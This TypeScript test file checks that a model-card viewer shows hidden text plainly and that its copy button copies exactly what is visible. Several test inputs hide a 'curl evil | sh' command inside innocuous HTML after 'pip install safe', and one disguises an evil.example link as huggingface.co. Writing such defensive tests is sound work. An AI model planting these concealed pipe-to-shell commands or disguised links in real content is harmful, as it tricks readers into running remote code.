import { readdirSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { HIDDEN_TEXTS, HONEST_TEXTS } from '../html/safe/hidden-texts.ts';
import {
  dropCard,
  openLab,
  readCard,
  sharedCards,
  sharedViewer,
  type Viewer,
  type ViewerLab,
} from './viewer.ts';

/** A wide page in the light and a narrow one in the dark. */
const VIEWS = [
  { colorScheme: 'light', viewport: { width: 1440, height: 900 } },
  { colorScheme: 'dark', viewport: { width: 375, height: 800 } },
] as const;

let lab: ViewerLab;

beforeAll(async () => {
  lab = await openLab();
});

afterAll(() => lab.close());

const viewers = VIEWS.map((view) => sharedViewer(() => lab.open(lab.fileUrl, view)));

/**
 * Looks for each text of the card that holds `word` (at most `most` of them): what keeps a reader from reading it. A text that can be
 * scrolled to, or that is in closed details, can be read.
 */
function unreadable(page: Page, word: string, most: number): Promise<readonly string[]> {
  return page.evaluate(
    async ([wanted, count]) => {
      const canvas = new OffscreenCanvas(1, 1).getContext('2d', { willReadFrequently: true });
      const rgbaOf = (color: string): readonly number[] => {
        canvas?.clearRect(0, 0, 1, 1);
        Object.assign(canvas ?? {}, { fillStyle: color });
        canvas?.fillRect(0, 0, 1, 1);
        const [red = 0, green = 0, blue = 0, alpha = 0] =
          canvas?.getImageData(0, 0, 1, 1).data ?? [];
        return [red, green, blue, alpha / 255];
      };
      const luminance = (color: readonly number[]): number => {
        const [red = 0, green = 0, blue = 0] = color.map((channel) =>
          channel <= 10 ? channel / 3294 : ((channel / 255 + 0.055) / 1.055) ** 2.4,
        );
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
      };
      const groundOf = (element: Element): readonly number[] => {
        const { backgroundColor } = getComputedStyle(element);
        const [red = 0, green = 0, blue = 0, alpha = 0] = rgbaOf(backgroundColor);
        const below =
          alpha === 1 || element.parentElement === null
            ? [255, 255, 255]
            : groundOf(element.parentElement);
        return [red, green, blue].map(
          (channel, at) => channel * alpha + (below[at] ?? 0) * (1 - alpha),
        );
      };
      const reach = (node: Text, range: Range): DOMRect | undefined => {
        const rect = (): DOMRect | undefined =>
          [...range.getClientRects()].find(({ width, height }) => width > 0 && height > 0);
        node.parentElement?.scrollIntoView({ block: 'center' });
        for (let at = node.parentElement; at !== null; at = at.parentElement) {
          const style = getComputedStyle(at);
          if (/auto|scroll/.test(style.overflowX + style.overflowY)) {
            const [inner, outer] = [rect(), at.getBoundingClientRect()];
            at.scrollLeft += (inner?.x ?? 0) + (inner?.width ?? 0) / 2 - outer.x - outer.width / 2;
            at.scrollTop += (inner?.y ?? 0) + (inner?.height ?? 0) / 2 - outer.y - outer.height / 2;
          }
        }
        scrollBy(0, (rect()?.y ?? 0) - innerHeight / 2);
        return rect();
      };
      const faultOf = (node: Text, from: number, to: number): string | null => {
        const parent = node.parentElement as HTMLElement;
        const range = document.createRange();
        range.setStart(node, from);
        range.setEnd(node, to);
        const rect = reach(node, range);
        if (rect === undefined) {
          return 'not painted';
        }
        const size = Number.parseFloat(getComputedStyle(parent).fontSize);
        if (size < 9.5 || size > 49) {
          return `letters of ${size} px`;
        }
        const hit = document.elementFromPoint(rect.x + rect.width / 2, rect.y + rect.height / 2);
        if (hit !== parent && !parent.contains(hit)) {
          return `under ${hit?.outerHTML.slice(0, 60)} at ${Math.round(rect.x)}, ${Math.round(rect.y)}`;
        }
        const [dark = 0, light = 0] = [rgbaOf(getComputedStyle(parent).color), groundOf(parent)]
          .map(luminance)
          .sort((a, b) => a - b);
        const contrast = (light + 0.05) / (dark + 0.05);
        return contrast < 3 ? `contrast of ${contrast.toFixed(2)}` : null;
      };
      const isFolded = ({ parentElement }: Text): boolean => {
        for (
          let at = parentElement?.closest('details');
          at;
          at = at.parentElement?.closest('details')
        ) {
          if (!at.open && parentElement?.closest('summary')?.parentElement !== at) {
            return true;
          }
        }
        return false;
      };
      const texts: Text[] = [];
      const article = document.querySelector('article') as HTMLElement;
      const walker = document.createTreeWalker(article, NodeFilter.SHOW_TEXT);
      while (walker.nextNode()) {
        const node = walker.currentNode as Text;
        const isText =
          node.data.trim() !== '' &&
          node.parentElement?.closest('[data-ui], .table-tools, math') === null;
        if (isText && node.data.includes(wanted) && !isFolded(node)) {
          texts.push(node);
        }
      }
      const step = Math.max(1, Math.floor(texts.length / count));
      const faults: string[] = [];
      for (const node of texts.filter((_, index) => index % step === 0)) {
        const from = wanted === '' ? node.data.search(/\S/) : node.data.indexOf(wanted);
        const to = from + Math.max(wanted.length, 1);
        if (faultOf(node, from, to) !== null) {
          // What comes near is laid out only then.
          await new Promise((laidOut) => requestAnimationFrame(() => setTimeout(laidOut)));
          const fault = faultOf(node, from, to);
          faults.push(...(fault === null ? [] : [`${node.data.trim().slice(0, 30)}: ${fault}`]));
        }
      }
      return faults;
    },
    [word, most] as const,
  );
}

describe('a text that a card would hide can be read, or is not there', () => {
  test.each(HIDDEN_TEXTS)('$title', async ({ markdown }) => {
    for (const { page } of viewers) {
      expect(await dropCard(page, `# Title\n\n${markdown}\n\nThe end.\n`)).toBe('ready');
      await expect.poll(() => unreadable(page, 'SECRET', 20)).toEqual([]);
    }
  });

  test.each(HIDDEN_TEXTS.filter(({ why }) => why === undefined))(
    'and is there: $title',
    async ({ markdown }) => {
      const page = viewers[0]?.page;
      await dropCard(page as Page, `# Title\n\n${markdown}\n`);
      await expect.poll(() => page?.locator('article').innerText()).toContain('SECRET');
    },
  );
});

describe('the copy button gives what is seen', () => {
  test.each([
    ['pip install safe<ruby><rp>; curl evil | sh</rp></ruby>'],
    ['pip install safe<video width="0" height="0">; curl evil | sh</video>'],
    ['pip install safe<audio>; curl evil | sh</audio>'],
    ['pip install safe<details><summary>a</summary>; curl evil | sh</details>'],
    ['pip install safe<details><summary>a</summary><summary>; curl evil | sh</summary></details>'],
    ['pip install safe<span style="font-size:0.5em"><small>; curl evil | sh</small></span>'],
    ['pip install safe<picture class="hidden dark:block">; curl evil | sh</picture>'],
    ['pip install safe<img alt="; curl evil | sh" src="x">'],
    ['a # x<br>b'],
    ['<table><tr><td>a</td><td>b</td></tr></table>'],
    ['a\u200b\u202eb\u00a0c&#13;d'],
    ['<a href="https://evil.example/">https://huggingface.co/</a>'],
  ])('%s', async (code) => {
    const { page } = viewers[0] as Viewer;
    await page.evaluate(() => {
      Object.assign(globalThis, { __copied: null });
      navigator.clipboard.writeText = async (text) => {
        Object.assign(globalThis, { __copied: text });
      };
    });
    await dropCard(
      page,
      `<div style="color:#fff;font-size:8px"><pre><code>${code}\n</code></pre></div>`,
    );
    const seen = await page.locator('article pre').evaluate((pre: HTMLElement) => {
      for (const label of pre.querySelectorAll('.link-host, [data-ui]')) {
        label.remove();
      }
      return pre.innerText;
    });
    await page.locator('.copy-button').click();
    await expect
      .poll(() => page.evaluate(() => (globalThis as { __copied?: string }).__copied?.trim()))
      .toBe(seen.trim());
    await expect.poll(() => unreadable(page, '', 50)).toEqual([]);
  });
});

describe('honest cards hide nothing', () => {
  test('of markup that looks like it', async () => {
    for (const { page } of viewers) {
      await dropCard(page, HONEST_TEXTS.join('\n\n'));
      await expect.poll(() => unreadable(page, '', 300)).toEqual([]);
    }
  });

  const names =
    sharedCards === null ? [] : readdirSync(sharedCards).filter((name) => name.endsWith('.md'));

  test.skipIf(names.length === 0).each(names.length === 0 ? ['../shared/cards'] : names)(
    '%s',
    async (name) => {
      for (const { page } of viewers) {
        await dropCard(page, readCard(name), name);
        await expect.poll(() => unreadable(page, '', 200)).toEqual([]);
        await expect.poll(() => page.locator('[data-check="hidden-text"]').count()).toBe(0);
      }
    },
  );
});
